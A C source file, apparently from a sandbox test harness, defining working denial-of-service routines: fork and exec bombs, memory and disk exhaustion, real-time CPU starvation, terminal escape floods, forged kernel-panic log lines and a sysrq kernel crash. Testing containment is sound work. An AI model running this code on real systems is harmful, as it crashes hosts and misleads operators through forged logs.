/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Programs that take all there is, or print what a terminal acts on. */
#define _GNU_SOURCE
#include "kinds.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/mount.h>

/* --- what takes all there is --- */

static void fork_bomb(void)
{
    for (;;)
        fork();
}

static void exec_bomb(void)
{
    for (;;)
        if (!fork())
            execl(self, self, "exec-bomb", NULL);
}

static void memory(void)
{
    for (;;) {
        char *at = mmap(NULL, 1 << 24, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

        if (at != MAP_FAILED)
            memset(at, 1, 1 << 24);
    }
}

static void memory_by_many(void)
{
    for (int i = 0; i < 64; i++)
        if (!fork())
            memory();
    pause();
}

static void map_all(void)
{
    size_t size = (size_t)1 << 46;

    for (; size >= 4096; size /= 2)
        while (mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0) != MAP_FAILED)
            ;
}

static void fill_files(void)
{
    static char page[1 << 16];
    const char *folders[] = {"/", "/tmp", "/run", "/dev", "/dev/shm", "/var/tmp"};

    for (int i = 0; i < 6; i++) {
        char path[64];
        int fd;

        snprintf(path, sizeof path, "%s/full", folders[i]);
        fd = open(path, O_WRONLY | O_CREAT, 0600);
        while (write(fd, page, sizeof page) > 0)
            ;
    }
}

static void many_files(void)
{
    for (unsigned i = 0;; i++) {
        char path[64];

        snprintf(path, sizeof path, "/tmp/f%u", i);
        if (open(path, O_WRONLY | O_CREAT, 0600) < 0 && errno == EMFILE)
            for (int fd = 3; fd < 1024; fd++)
                close(fd);
    }
}

static void *spin(void *nothing)
{
    forever();
    return nothing;
}

static void threads(void)
{
    pthread_t one;

    for (int i = 0; i < 100; i++)
        pthread_create(&one, NULL, spin, NULL);
    pthread_exit(NULL);
}

static void real_time(void)
{
    struct sched_param most = {.sched_priority = 99};

    sched_setscheduler(0, SCHED_FIFO, &most);
    put("/proc/sys/kernel/sched_rt_runtime_us", "-1");
    forever();
}

/* --- what is printed --- */

static void print_escapes(void)
{
    for (int i = 0; i < 100; i++) {
        fputs(ESCAPES "\n", stdout);
        fputs(ESCAPES "\n", stderr);
    }
    fflush(stdout);
    exit(3);
}

static void print_bytes(void)
{
    for (int i = 0; i < 1 << 16; i++)
        putchar(i ^ i >> 8);
    exit(3);
}

static void to_console(void)
{
    for (int i = 0; i < 100; i++) {
        put("/dev/console", ESCAPES "\n");
        put("/dev/ttyS0", ESCAPES "\n");
        put("/dev/kmsg", "<0>" ESCAPES "\n");
    }
    put("/proc/sysrq-trigger", "c");
}

static void to_log(void)
{
    int fd = open("/dev/kmsg", O_WRONLY);

    for (;;)
        if (write(fd, "<0>Kernel panic - not syncing: " ESCAPES "\n", 60) < 0)
            break;
}

const struct kind resource_kinds[] = {
    {"fork-bomb", fork_bomb}, {"exec-bomb", exec_bomb}, {"memory", memory}, {"memory-by-many", memory_by_many},
    {"map-all", map_all}, {"fill-files", fill_files}, {"many-files", many_files}, {"threads", threads},
    {"real-time", real_time}, {"print-escapes", print_escapes}, {"print-bytes", print_bytes},
    {"to-console", to_console}, {"to-log", to_log}, {NULL, NULL},
};
